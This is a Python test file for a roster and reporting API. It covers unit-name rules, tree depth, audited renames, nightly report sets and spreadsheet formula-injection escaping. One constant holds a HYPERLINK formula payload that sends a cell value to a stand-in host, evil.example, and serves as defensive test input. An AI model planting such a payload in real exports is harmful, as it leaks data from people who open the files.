"""Units by any name, over HTTP on moto: what a name may hold, how deep a tree goes, a
rename, and a night's set that survives every name (and every formula) it meets."""

from __future__ import annotations

import csv
import io
import json
import logging
from datetime import datetime
from typing import Any

import boto3
import pytest
from openpyxl import load_workbook

from tests.api.conftest import call, code, get, json_of, nightly, post
from tests.api.test_reports_api import download
from tests.helpers import BUCKET, CITY_ADMIN, COUNTY_ADMIN, LEARNER, OTHER_COUNTY_ADMIN, UNIT_ADMIN
from xuefa.core.clock import SHANGHAI
from xuefa.store.keys import Keys

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
SLASHED = "法宣科/综合组"


def at(text: str) -> datetime:
    return datetime.fromisoformat(text).replace(tzinfo=SHANGHAI)


def new_unit(roster: Any, name: str, parent: str = "530402-001", who: Any = COUNTY_ADMIN) -> Any:
    return post(roster, "/units", who, {"name": name, "parent_id": parent})


def listing(reports: Any, day: str, who: Any = CITY_ADMIN, unit_id: str = "") -> dict[str, Any]:
    query = f"date={day}" + (f"&unit_id={unit_id}" if unit_id else "")
    return dict(json_of(get(reports, f"/daily?{query}", who)))


def file_of(files: list[dict[str, Any]], unit_id: str, kind: str, fmt: str) -> bytes:
    (found,) = [f for f in files if (f["unit_id"], f["kind"], f["format"]) == (unit_id, kind, fmt)]
    return download(found["url"])


def csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("综合\x07组", "a control character"),
        ("综合\u200b组", "a zero-width space (format)"),
        ("综合\u2028组", "a line separator"),
        ("综合\ue000组", "a private-use character"),
        ("   ", "nothing once trimmed"),
        ("组" * 61, "61 characters"),
    ],
)
def test_a_bad_unit_name_is_refused_and_writes_nothing(api_roster, city, name: str, why: str):
    response = new_unit(api_roster, name)
    assert (response.status_code, code(response)) == (400, "BAD_REQUEST"), why
    assert "details" in json_of(response)["error"]
    children = json_of(get(api_roster, "/units/530402-001", COUNTY_ADMIN))["children"]
    assert children == []


def test_a_name_is_trimmed_and_may_hold_what_a_tab_cannot(api_roster, city) -> None:
    for name in (f"  {SLASHED} ", "[综合]*?:\\'", "组" * 60, "History"):
        created = new_unit(api_roster, name)
        assert created.status_code == 201, (name, created.body)
        assert json_of(created)["name"] == name.strip()


def test_a_unit_tree_is_at_most_eight_levels_deep(api_roster, city) -> None:
    parent = "530402-001"  # level 3: city, county, unit
    for level in range(4, 9):
        created = new_unit(api_roster, f"第{level}级", parent)
        assert created.status_code == 201, created.body
        parent = json_of(created)["unit_id"]
        assert len(json_of(created)["path"].split("/")) == level
    too_deep = new_unit(api_roster, "第9级", parent)
    assert (too_deep.status_code, code(too_deep)) == (400, "BAD_REQUEST")
    assert json_of(too_deep)["error"]["details"]["max_depth"] == 8
    assert json_of(get(api_roster, f"/units/{parent}", COUNTY_ADMIN))["children"] == []


def test_an_admin_in_scope_renames_a_unit_and_it_is_audited(api_roster, city) -> None:
    renamed = call(
        api_roster, "patch", "/units/530402-001", UNIT_ADMIN, {"name": " 红塔区司法局机关 "}
    )
    assert renamed.status_code == 200, renamed.body
    assert json_of(renamed)["name"] == "红塔区司法局机关"
    assert json_of(get(api_roster, "/units/530402-001", COUNTY_ADMIN))["name"] == "红塔区司法局机关"
    children = json_of(get(api_roster, "/units/530402", COUNTY_ADMIN))["children"]
    assert {"unit_id": "530402-001", "name": "红塔区司法局机关"} in children
    (entry,) = [
        a for a in city.query_all("AUDIT#2026#2026-11-20") if a["action"] == "roster.unit.rename"
    ]
    assert entry["before"] == {"name": "红塔区司法局"} and entry["after"] == {
        "name": "红塔区司法局机关"
    }
    assert entry["actor"] == UNIT_ADMIN[0] and entry["target"] == "530402-001"
    for who, unit, body, status in (
        (OTHER_COUNTY_ADMIN, "530402-001", {"name": "别人的"}, 403),
        (UNIT_ADMIN, "530402-002", {"name": "邻居"}, 403),
        (LEARNER, "530402-001", {"name": "学员改名"}, 403),
        (COUNTY_ADMIN, "530402-001", {"name": "坏\x00名"}, 400),
        (COUNTY_ADMIN, "530402-001", {}, 400),
        (COUNTY_ADMIN, "nope-9", {"name": "无此单位"}, 404),
    ):
        response = call(api_roster, "patch", f"/units/{unit}", who, body)
        assert response.status_code == status, (who, unit, body, response.body)
        assert set(json_of(response)) == {"error"}
    assert json_of(get(api_roster, "/units/530402-001", COUNTY_ADMIN))["name"] == "红塔区司法局机关"


def test_the_night_writes_a_unit_of_any_name_and_shows_a_rename_the_next_night(
    api_roster, client, clock
) -> None:
    reports = client("reports").http
    clock.set(at("2026-11-19T10:00:00"))
    unit_id = json_of(new_unit(api_roster, SLASHED))["unit_id"]
    learner = post(api_roster, "/learners", COUNTY_ADMIN, {"name": "张三", "unit_id": unit_id})
    assert learner.status_code == 201, learner.body
    clock.set(at("2026-11-20T01:00:00"))
    assert (
        json_of(post(reports, "/runs", CITY_ADMIN, {"date": "2026-11-19"}))["status"] == "complete"
    )
    day = listing(reports, "2026-11-19", COUNTY_ADMIN)
    assert day["whole"] is True and day["failed_units"] == []
    book = load_workbook(io.BytesIO(file_of(day["files"], unit_id, "learners", "xlsx")))
    (sheet,) = book.worksheets
    assert sheet.title == "法宣科／综合组"  # what a tab can hold, read the same
    assert sheet["C2"].value == SLASHED  # the cell keeps the name as it is
    (row,) = csv_rows(file_of(day["files"], unit_id, "learners", "csv"))
    assert row["单位"] == SLASHED and row["姓名"] == "张三"

    clock.set(at("2026-11-20T10:00:00"))
    renamed = call(api_roster, "patch", f"/units/{unit_id}", COUNTY_ADMIN, {"name": "综合组[新]"})
    assert renamed.status_code == 200, renamed.body
    clock.set(at("2026-11-21T01:00:00"))
    post(reports, "/runs", CITY_ADMIN, {"date": "2026-11-20"})
    after = listing(reports, "2026-11-20", COUNTY_ADMIN)
    (row,) = csv_rows(file_of(after["files"], unit_id, "learners", "csv"))
    assert row["单位"] == "综合组[新]"
    sheet = load_workbook(io.BytesIO(file_of(after["files"], unit_id, "learners", "xlsx"))).active
    assert sheet is not None and sheet.title == "综合组［新］"


def test_a_formula_is_text_in_every_file_we_write(api_roster, city, client, clock) -> None:
    """A learner named like a formula, in a unit named like one: the daily set, its
    bulletins, the progress export and the year-end set."""
    reports_client = client("reports")
    reports = reports_client.http
    clock.set(at("2026-11-19T10:00:00"))
    unit_id = json_of(new_unit(api_roster, "-综合组", parent="530402"))["unit_id"]
    created = post(api_roster, "/learners", COUNTY_ADMIN, {"name": HYPERLINK, "unit_id": unit_id})
    assert created.status_code == 201, created.body
    student_no = json_of(created)["student_no"]
    clock.set(at("2026-11-20T01:00:00"))
    post(reports, "/runs", CITY_ADMIN, {"date": "2026-11-19"})
    files = listing(reports, "2026-11-19", COUNTY_ADMIN)["files"]
    (row,) = csv_rows(file_of(files, unit_id, "learners", "csv"))
    assert row["姓名"] == "'" + HYPERLINK and row["单位"] == "'-综合组"
    assert row["积分"] == "0"  # a number stays a number
    county = csv_rows(file_of(files, "530402", "rollup", "csv"))
    assert "'-综合组" in {r["单位"] for r in county}
    sheet = load_workbook(io.BytesIO(file_of(files, unit_id, "learners", "xlsx"))).active
    assert sheet is not None
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", HYPERLINK)  # text, not a formula

    clock.set(at("2026-11-20T10:00:00"))
    export = json_of(get(reports, f"/progress/export?unit_id={unit_id}&format=csv", COUNTY_ADMIN))
    (exported,) = csv_rows(download(export["url"]))
    assert exported["姓名"] == "'" + HYPERLINK and exported["单位"] == "'-综合组"

    clock.set(at("2026-12-01T01:00:00"))
    nightly(reports_client, "2026-11-30T17:00:00Z")  # the close of 2026
    year_end = json_of(get(reports, f"/years/2026?unit_id={unit_id}", COUNTY_ADMIN))["files"]
    (closed,) = csv_rows(file_of(year_end, unit_id, "learners", "csv"))
    assert closed["学号"] == student_no and closed["姓名"] == "'" + HYPERLINK


def test_a_unit_that_cannot_be_rendered_is_left_out_alarmed_and_named(
    api_roster, city, client, clock, monkeypatch, caplog
) -> None:
    from xuefa.reports.membership import Membership

    reports_client = client("reports")
    real_rows = Membership._live_rows
    tries: list[str] = []

    def broken(self: Any, config: Any, day: Any, unit: Any) -> Any:
        if unit.unit_id == "530402-002" and str(day) == "2026-11-19":  # not 2017's close
            tries.append(unit.unit_id)
            raise ValueError("injected: this unit cannot be rendered")
        return real_rows(self, config, day, unit)

    monkeypatch.setattr(Membership, "_live_rows", broken)
    counted: list[str] = []
    from xuefa.core.observability import metrics

    emf = metrics("reports")  # the reports app's Powertools Metrics (one per process)
    monkeypatch.setattr(emf, "add_metric", lambda name, **kw: counted.append(name))
    clock.set(at("2026-11-20T01:00:00"))
    with caplog.at_level(logging.WARNING):
        result = nightly(reports_client, "2026-11-19T17:00:00Z").payload
    assert result["status"] == "complete"
    assert tries == ["530402-002"] * 3  # tried again in the shard before it is left out
    assert counted == ["UnitReportFailed"]
    assert any(
        "530402-002" in r.getMessage() and "injected" in r.getMessage() for r in caplog.records
    )
    manifest = json.loads(
        boto3.client("s3")
        .get_object(Bucket=BUCKET, Key="reports/daily/2026-11-19/manifest.json")["Body"]
        .read()
    )
    assert manifest["whole"] is False
    assert [u["unit_id"] for u in manifest["failed_units"]] == ["530402-002"]
    assert "injected" in manifest["failed_units"][0]["reason"]
    units = {f["unit_id"] for f in manifest["files"] if f["kind"] == "learners"}
    assert len(units) == 40 and "530402-002" not in units and "530402-001" in units
    county = listing(reports_client.http, "2026-11-19", COUNTY_ADMIN)
    assert county["whole"] is False
    assert [u["unit_id"] for u in county["failed_units"]] == ["530402-002"]
    other = listing(reports_client.http, "2026-11-19", OTHER_COUNTY_ADMIN)
    assert other["whole"] is True and other["failed_units"] == []  # not theirs to worry about
    assert city.get(Keys.report_run("2026-11-19"))["status"] == "complete"


@pytest.fixture
def api_roster(accounts: Any, client: Any) -> Any:
    return client("roster").http
